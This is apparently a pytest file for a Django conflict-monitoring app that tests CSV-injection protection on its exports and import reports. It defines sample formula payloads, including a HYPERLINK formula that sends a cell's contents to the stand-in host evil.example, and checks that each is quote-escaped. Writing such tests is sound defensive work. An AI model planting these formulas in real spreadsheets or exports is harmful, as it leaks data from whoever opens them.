"""CSV written by Marsad never carries a formula: text cells a spreadsheet would run get a
leading quote (OWASP's rule for CSV injection); numbers stay numbers. Each export and import
report goes through `marsad.spreadsheet`."""

import csv
import io

import pytest
from django.test import Client
from typer.testing import CliRunner

from marsad.ceasefire.imports import import_acled
from marsad.ceasefire.models import Incident
from marsad.ceasefire.services import record_figure
from marsad.cli import app
from marsad.core.services.actors import create_source
from marsad.spreadsheet import Writer, lines, neutralise

from .access import aid_fixture
from .ceasefire import acled_fixture

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
PAYLOADS = [LINK, "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\x00=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Bani Suheila", "", "31.5", "'=already quoted", "a=b", "#date"])
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("number", [-0.5, -34, 0, 31.3436, 2**62])
def test_numbers_stay_numbers_even_when_negative(number):
    assert neutralise(number) is number
    assert "".join(lines([[number]])).strip() == str(number)


def test_the_writer_and_the_streamed_lines_agree():
    buffer = io.StringIO()
    Writer(buffer).writerows([["-2+3", -2.5, "x"]])
    assert buffer.getvalue() == "".join(lines([["-2+3", -2.5, "x"]])) == "'-2+3,-2.5,x\r\n"


def cells(text):
    """Every cell of a CSV text, header rows included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def download(path):
    response = Client().get(path)
    assert response.status_code == 200, path
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def poisoned(db, system, states, tmp_path):
    """An incident, a casualty figure and a consignment whose text fields start with formulas."""
    row = acled_fixture.row(
        "INJ1", location=LINK, actor2="+1", source="-2+3", notes="@SUM(A1)", admin1="Gaza Strip"
    )
    import_acled(by=system, path=acled_fixture.write(tmp_path / "a.csv", [row]), marking="public")
    wire = create_source(
        by=system, key="WIRE", name_ar="وكالة", name_en="Wire", kind="media", marking="public"
    )
    record_figure(
        by=system,
        source=wire,
        reported_on="2025-11-12",
        incident=Incident.objects.get(event_id="INJ1"),
        killed=3,
        wording="@SUM(A1)",
        marking="public",
    )
    trucks = [aid_fixture.truck("1", donor=LINK)]
    from marsad.access.imports import import_unrwa

    import_unrwa(
        by=system, path=aid_fixture.write(tmp_path / "u.csv", aid_fixture.UNRWA_HEADER, trucks)
    )


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/en/ceasefire/export/incidents.csv", ["'" + LINK, "'+1", "'-2+3"]),
        ("/en/ceasefire/export/incidents.hxl.csv", ["'" + LINK, "'+1", "'-2+3"]),
        ("/en/ceasefire/export/figures.csv", ["'@SUM(A1)"]),
        ("/en/ceasefire/export/figures.hxl.csv", ["'@SUM(A1)"]),
        ("/en/access/export/consignments.csv", ["'" + LINK]),
        ("/en/access/export/consignments.hxl.csv", ["'" + LINK]),
    ],
)
def test_every_export_quotes_formulas_and_keeps_numbers(poisoned, path, expected):
    found = cells(download(path))
    for cell in expected:
        assert cell in found, (path, cell)
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path
    if "incidents" in path:
        assert {"31.3436", "34.3225", "3"} <= set(found)  # numbers as numbers


@pytest.mark.parametrize("what", ["incidents", "figures"])
@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_the_export_command_quotes_formulas(poisoned, what, fmt):
    result = CliRunner().invoke(app, ["ceasefire", "export", what, "--format", fmt])
    assert result.exit_code == 0, result.output
    found = cells(result.output)
    assert ("'" + LINK in found) if what == "incidents" else ("'@SUM(A1)" in found)
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@")]


def test_import_reports_quote_the_rejected_values(db, system, states, tmp_path):
    acled = acled_fixture.write(tmp_path / "a.csv", [acled_fixture.row("BAD", latitude="=1+2")])
    report = tmp_path / "acled-report.csv"
    result = CliRunner().invoke(
        app, ["import", "acled", str(acled), "--marking", "public", "--report", str(report)]
    )
    assert result.exit_code == 0, result.output
    assert "'=1+2" in cells(report.read_text(encoding="utf-8"))

    trucks = [aid_fixture.truck("1", crossing="@SUM(A1)")]
    unrwa = aid_fixture.write(tmp_path / "u.csv", aid_fixture.UNRWA_HEADER, trucks)
    report = tmp_path / "unrwa-report.csv"
    result = CliRunner().invoke(app, ["import", "unrwa", str(unrwa), "--report", str(report)])
    assert result.exit_code == 0, result.output
    assert "'@SUM(A1)" in cells(report.read_text(encoding="utf-8"))
